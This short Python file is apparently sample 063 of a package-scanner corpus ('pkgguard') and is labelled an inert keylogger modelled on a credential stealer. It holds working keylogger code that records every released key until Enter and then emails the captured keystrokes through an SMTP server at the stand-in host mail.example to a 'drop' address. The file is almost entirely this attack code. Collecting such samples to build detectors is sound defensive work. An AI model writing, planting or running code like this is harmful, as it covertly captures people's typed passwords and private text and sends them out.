# pkgguard corpus 063 (keylogger), modelled on [stealer-profile]; inert, never run.
import smtplib
import keyboard

log = []
keyboard.on_release(lambda e: log.append(e.name))
keyboard.wait("enter")
with smtplib.SMTP("mail.example", 587) as server:
    server.login("drop@mail.example", "placeholder")
    server.sendmail("drop@mail.example", ["drop@mail.example"], " ".join(log))
